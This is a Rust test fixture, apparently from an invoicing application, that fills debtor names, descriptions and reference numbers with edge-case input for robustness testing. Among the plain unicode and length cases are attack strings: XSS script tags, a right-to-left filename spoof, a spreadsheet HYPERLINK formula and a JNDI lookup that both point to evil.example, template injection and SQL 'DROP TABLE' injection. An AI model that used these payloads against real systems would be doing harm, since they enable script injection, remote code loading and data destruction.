//! Names and numbers that mean harm, or do it by accident.

use super::awkward::{Bench, copenhagen};

pub(super) fn texts(bench: &mut Bench, huge_name: bool) {
    bench.debtor(
        "markup in the name",
        "<img src=x onerror=alert(1)> ApS",
        copenhagen(),
    );
    bench.debtor(
        "script in the name",
        "\"><script>alert('x')</script>",
        copenhagen(),
    );
    bench.debtor(
        "right-to-left override",
        "Fakt\u{202e}SpA gnp.exe\u{202c} A/S",
        copenhagen(),
    );
    bench.debtor(
        "zero-width characters",
        "Nord\u{200b}lys\u{feff} ApS",
        copenhagen(),
    );
    bench.debtor(
        "formula in the name",
        "=HYPERLINK(\"http://evil.example\",\"Klik\")",
        copenhagen(),
    );
    bench.debtor(
        "line breaks in the name",
        "Linje 1\r\nLinje 2\tTab",
        copenhagen(),
    );
    bench.debtor(
        "combining characters",
        "Zoe\u{308} Cafe\u{301} ApS",
        copenhagen(),
    );
    bench.debtor(
        "a long name",
        &"Ærø & Læsø Fællesindkøb, Håndværk og Søfart – ".repeat(6),
        copenhagen(),
    );
    bench.debtor("emoji", "🍞 Bageriet 👩‍🍳 ApS", copenhagen());
    bench
        .debtor("markup in the text", "Tekst ApS", copenhagen())
        .description =
        Some("<b>Reminder</b> {{ 7*7 }} ${jndi:ldap://evil.example} '; DROP TABLE cases;--".into());
    if huge_name {
        bench.debtor(
            "a name of a megabyte",
            &"Kæmpe".repeat(175_000),
            copenhagen(),
        );
    }
}

pub(super) fn references(bench: &mut Bench) {
    for (case, number) in [
        ("number in capitals", "Inv-Case-1"),
        ("the same number in small letters", "inv-case-1"),
        ("slash in the number", "2026/07/0042"),
        ("space and plus in the number", "A 1+2"),
        ("percent sign in the number", "100%25"),
        (
            "non-breaking hyphens in the number",
            "INV\u{2011}2026\u{2011}0042",
        ),
        ("plain hyphens in the number", "INV-2026-0042"),
        ("umlauts in the number", "Größe-Ø1"),
        (
            "a number of 51 characters",
            "LONG-0123456789-0123456789-0123456789-0123456789-01",
        ),
        ("dots for a number", ".."),
        ("question mark and hash in the number", "Q?1#2"),
    ] {
        bench
            .debtor(case, "Reference & Co ApS", copenhagen())
            .number = Some(number.to_owned());
    }
}
